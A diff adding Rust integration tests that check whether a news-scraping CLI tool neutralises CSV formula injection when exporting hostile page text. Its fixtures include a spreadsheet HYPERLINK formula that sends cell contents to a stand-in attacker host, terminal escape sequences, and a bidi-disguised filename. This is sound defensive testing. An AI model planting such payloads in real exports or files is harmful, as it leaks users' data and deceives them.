@@ -1,0 +1,160 @@
+//! What pages put in the database cannot trick the outputs: CSV cells that a spreadsheet would
+//! run, terminal escapes in tables, `--out` pointed at the database, huge `sql` results, old
+//! schemas opened by reading commands, and a database another program keeps busy.
+
+use std::path::{Path, PathBuf};
+
+use assert_cmd::Command;
+use chrono::{TimeZone, Utc};
+use vigia::extract::{Entity, EntityType, Extraction, Statistic};
+use vigia::store::{NewArticle, PageRecord, Store};
+
+fn vigia() -> Command {
+    let mut cmd = Command::cargo_bin("vigia").unwrap();
+    cmd.env_remove("VIGIA_CONFIG").env_remove("RUST_LOG");
+    cmd
+}
+
+fn stdout_of(cmd: &mut Command) -> String {
+    let out = cmd.assert().success().get_output().stdout.clone();
+    String::from_utf8(out).unwrap()
+}
+
+/// Page text as a hostile site could send it: formulas, terminal escapes, bidi overrides.
+const FORMULA_TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+const ESCAPE_BODY: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}Police seized 12 tons of cocaine\u{7f} in the port \u{202e}gnp.exe\u{85} yesterday.";
+
+/// A database with one article whose stored text starts like formulas and holds escapes.
+fn hostile_db(dir: &Path) -> PathBuf {
+    let db = dir.join("hostile.db");
+    let store = Store::open(&db).unwrap();
+    let url = "https://news.example/hostile";
+    let page = PageRecord {
+        url: url.into(),
+        final_url: url.into(),
+        source: "wire".into(),
+        status: Some(200),
+        body: Some(ESCAPE_BODY.as_bytes().to_vec()),
+        fetched_at: Utc.with_ymd_and_hms(2024, 3, 1, 0, 0, 0).unwrap(),
+        ..PageRecord::default()
+    };
+    let article = NewArticle {
+        canonical_url: url.into(),
+        url: url.into(),
+        source: "wire".into(),
+        title: Some(FORMULA_TITLE.into()),
+        published: Some("2024-02-29".into()),
+        body: ESCAPE_BODY.into(),
+        fetched_at: page.fetched_at,
+        ..NewArticle::default()
+    };
+    let statistic = |value: f64, counted: &str, metric: &str| Statistic {
+        value: Some(value),
+        low: None,
+        high: None,
+        unit: "count".into(),
+        qualifier: None,
+        counted: Some(counted.into()),
+        topic: Some("drug_seizure".into()),
+        metric: Some(metric.into()),
+        year: None,
+        location: None,
+        source: Some("\tcmd".into()),
+        sentence: ESCAPE_BODY.into(),
+        start: 40,
+        end: 47,
+    };
+    let extraction = Extraction {
+        relevance: 0.9,
+        topics: vec!["drug_seizure".into()],
+        statistics: vec![statistic(-5.0, "@SUM(1+1)", "+1-1"), statistic(-2.5, "-2+3", "\rcmd")],
+        entities: vec![Entity {
+            kind: EntityType::Organization,
+            name: "=1+1".into(),
+            role: Some("-officer".into()),
+            country: None,
+            start: 0,
+            end: 3,
+        }],
+    };
+    store.save_article(&page, &article, &extraction).unwrap();
+    db
+}
+
+fn csv_rows(text: &str) -> Vec<csv::StringRecord> {
+    csv::Reader::from_reader(text.as_bytes()).records().map(|r| r.unwrap()).collect()
+}
+
+// 1. CSV formula injection.
+
+#[test]
+fn csv_export_neutralises_formula_cells_but_not_numbers() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = hostile_db(dir.path());
+
+    let articles = stdout_of(vigia().args(["export", "articles", "--format", "csv", "--db"]).arg(&db));
+    let rows = csv_rows(&articles);
+    assert_eq!(&rows[0][1], format!("'{FORMULA_TITLE}"));
+
+    let stats = stdout_of(vigia().args(["export", "statistics", "--format", "csv", "--db"]).arg(&db));
+    let rows = csv_rows(&stats);
+    assert_eq!(rows.len(), 2);
+    // value, counted, metric, attributed_to
+    assert_eq!(&rows[0][3], "-5.0", "a negative number stays a number");
+    assert_eq!(&rows[0][8], "'@SUM(1+1)");
+    assert_eq!(&rows[0][10], "'+1-1");
+    assert_eq!(&rows[0][13], "'\tcmd");
+    assert_eq!(&rows[1][3], "-2.5");
+    assert_eq!(&rows[1][8], "'-2+3");
+    assert_eq!(&rows[1][10], "'\rcmd");
+    assert_eq!(&rows[0][15], "40");
+
+    let entities = stdout_of(vigia().args(["export", "entities", "--format", "csv", "--db"]).arg(&db));
+    let rows = csv_rows(&entities);
+    assert_eq!(&rows[0][4], "'=1+1");
+    assert_eq!(&rows[0][5], "'-officer");
+
+    // JSON Lines keeps the text exactly as stored.
+    let jsonl = stdout_of(vigia().args(["export", "statistics", "--format", "jsonl", "--db"]).arg(&db));
+    let first: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert_eq!(first["counted"], "@SUM(1+1)");
+    assert_eq!(first["value"], -5.0);
+}
+
+#[test]
+fn sql_csv_neutralises_formula_text_but_not_numbers() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = hostile_db(dir.path());
+    let out = stdout_of(
+        vigia()
+            .args([
+                "sql",
+                "--format",
+                "csv",
+                "SELECT title, -5 AS n, -2.5 AS r, '-3' AS t, NULL AS z, '' AS e FROM articles",
+            ])
+            .arg("--db")
+            .arg(&db),
+    );
+    let mut reader = csv::Reader::from_reader(out.as_bytes());
+    assert_eq!(
+        reader.headers().unwrap().iter().collect::<Vec<_>>(),
+        ["title", "n", "r", "t", "z", "e"]
+    );
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[0], format!("'{FORMULA_TITLE}"));
+    assert_eq!(&row[1], "-5");
+    assert_eq!(&row[2], "-2.5");
+    assert_eq!(&row[3], "'-3", "text that looks like a number is still text");
+    assert_eq!(&row[4], "");
+    assert_eq!(&row[5], "");
+
+    // JSON keeps the stored text.
+    let json = stdout_of(
+        vigia()
+            .args(["sql", "--format", "json", "SELECT title FROM articles", "--db"])
+            .arg(&db),
+    );
+    let row: serde_json::Value = serde_json::from_str(json.trim()).unwrap();
+    assert_eq!(row["title"], FORMULA_TITLE);
+}
